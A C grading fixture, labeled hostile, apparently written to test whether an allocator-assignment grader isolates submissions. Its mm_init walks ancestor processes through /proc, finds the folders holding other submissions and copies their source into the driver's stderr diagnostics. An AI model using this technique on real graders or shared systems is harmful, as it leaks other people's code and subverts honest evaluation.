/*
 * peeks.c - grading fixture (hostile): climbs its ancestors through
 * /proc/PID/stat and, for each, tries every word of its command line as a
 * folder under /proc/PID/cwd; from every folder it finds, it prints the
 * start of each other submission (NAME.c or NAME/mm.c) to the driver's
 * standard error (/proc/DRIVER/fd/2), which the grader keeps among its
 * diagnostics.
 *
 * Under valgrind only (see README.md); elsewhere the starter allocator.
 */
#define _GNU_SOURCE
#define mm_init honest_mm_init
#include "allocators/naive.c"
#undef mm_init

#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>
#include "tests/grader/hostile/counted.h"

enum { FILE_BYTES = 1 << 14 };

/* The bytes of path into buffer (NUL-terminated); how many. */
static ssize_t read_file(const char *path, char *buffer)
{
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, buffer, FILE_BYTES - 1);
    close(fd);
    buffer[n > 0 ? n : 0] = '\0';
    return n;
}

static void print_classmates(const char *folder, int report)
{
    int fd = open(folder, O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return;
    char entries[8192], path[8600], buffer[FILE_BYTES];
    long got;
    while ((got = getdents64(fd, entries, sizeof entries)) > 0)
        for (long at = 0; at < got;) {
            struct dirent64 *entry = (struct dirent64 *)(entries + at);
            at += entry->d_reclen;
            if (entry->d_name[0] == '.' || strstr(entry->d_name, "peeks") != NULL)
                continue;
            snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
            ssize_t n = read_file(path, buffer);
            if (n < 0) {
                snprintf(path, sizeof path, "%s/%s/mm.c", folder, entry->d_name);
                n = read_file(path, buffer);
            }
            if (n > 0 && write(report, buffer, (size_t)n) < 0)
                return;
        }
    close(fd);
}

static pid_t parent_of(pid_t pid)
{
    char path[64], buffer[FILE_BYTES];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    if (read_file(path, buffer) <= 0 || strrchr(buffer, ')') == NULL)
        return 0;
    int parent = 0;
    sscanf(strrchr(buffer, ')') + 1, " %*c %d", &parent);
    return parent;
}

static void peek_from(pid_t ancestor, int report)
{
    char path[64], words[FILE_BYTES], folder[8192];
    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)ancestor);
    ssize_t n = read_file(path, words);
    for (ssize_t at = 0; at < n; at += (ssize_t)strlen(words + at) + 1) {
        if (words[at] == '/')
            snprintf(folder, sizeof folder, "%s", words + at);
        else
            snprintf(folder, sizeof folder, "/proc/%d/cwd/%s", (int)ancestor, words + at);
        print_classmates(folder, report);
    }
}

int mm_init(void)
{
    if (counted_replay()) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/fd/2", (int)getppid());
        int report = open(path, O_WRONLY | O_APPEND);
        for (pid_t pid = getppid(); report >= 0 && pid > 1; pid = parent_of(pid))
            peek_from(pid, report);
        if (report >= 0)
            close(report);
    }
    return honest_mm_init();
}
